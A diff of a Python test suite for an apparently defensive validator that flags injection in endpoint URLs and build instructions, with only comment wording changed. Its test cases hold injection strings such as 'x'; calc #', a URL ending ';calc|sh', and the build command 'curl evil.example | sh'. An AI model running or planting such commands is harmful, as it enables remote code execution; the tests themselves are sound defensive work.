@@ -57,11 +57,11 @@ for name, rest, comment in (
         ("json", "/?q=%7B%22a%22%3A%22b%3Bc%22%7D", "JSON, encoded."), ("search", "/?q=%22foo%22%20-bar", "A search that leaves a word out."),
         ("sql", "/?q=a%3D'x'%3B".replace("'", "%27"), "A statement that ends there."), ("parentheses", "/Products(1)/Name", "Parentheses."), ("bang", "/a!b/c!", "Exclamation marks."),
         ("markdown", "/?q=%60code%60", "Backticks, encoded."), ("backtick-one", "/it%60s", "One of them in a path."),
-        ("text", "/?text=a%0D%0Ab%0Ac", "Lines of a text, encoded."), ("text-colon", "/?text=To%3A%0D%0ALunch%3A%20noon", "Lines with colons, which are no headers."), ("percent", "/?q=50%25%20and%2020%25", "Percentages, encoded."), ("wild", "/a*b~c,d+e@f:g=h", "Other marks of URLs.")):
+        ("text", "/?text=a%0D%0Ab%0Ac", "Lines of a text, encoded."), ("text-colon", "/?text=To%3A%0D%0ALunch%3A%20noon", "Lines with colons, which are not headers."), ("percent", "/?q=50%25%20and%2020%25", "Percentages, encoded."), ("wild", "/a*b~c,d+e@f:g=h", "Other marks of URLs.")):
     add(f"plain-{name}", comment, H + rest)
 add("line-found", "What is shown of it.", f"{H}/x%0acalc", runs(found='"%0acalc"'))
-add("invalid", "An endpoint that is no URL is looked at all the same.", "x'; calc #", runs(), manifest="invalid")
-add("no-text", "One that is no string is not.", 1, manifest="invalid")
+add("invalid", "An endpoint that is not a URL is looked at all the same.", "x'; calc #", runs(), manifest="invalid")
+add("no-text", "One that is not a string is not.", 1, manifest="invalid")
 
 KIND = note("1-kind-unknown", "/access/requirements/0/kind")
 LINK = "/access/requirements/0/links/docs"
@@ -86,6 +86,6 @@ def build(**changes):
 SUITE.add("build-instructions", "5-build-instructions-untrusted", "A command line of the author's choice.", m(verifiability=build(buildInstructions="curl evil.example | sh")),
     note("5-build-instructions-untrusted", "/verifiability/reproducibleBuild/buildInstructions", found='"curl evil.example | sh"'))
 SUITE.add("build-without", "5-build-instructions-untrusted", "No instructions.", m(verifiability=build()))
-SUITE.add("build-not-text", "5-build-instructions-untrusted", "Instructions that are no text.", m(verifiability=build(buildInstructions=1)), manifest="invalid")
+SUITE.add("build-not-text", "5-build-instructions-untrusted", "Instructions that are not text.", m(verifiability=build(buildInstructions=1)), manifest="invalid")
 SUITE.add("build-source", "5-build-instructions-untrusted", "The source's URL goes into commands too.",
     m(verifiability=build(sourceCodeURI="https://github.com/o/r;calc|sh")), runs("/verifiability/reproducibleBuild/sourceCodeURI"))
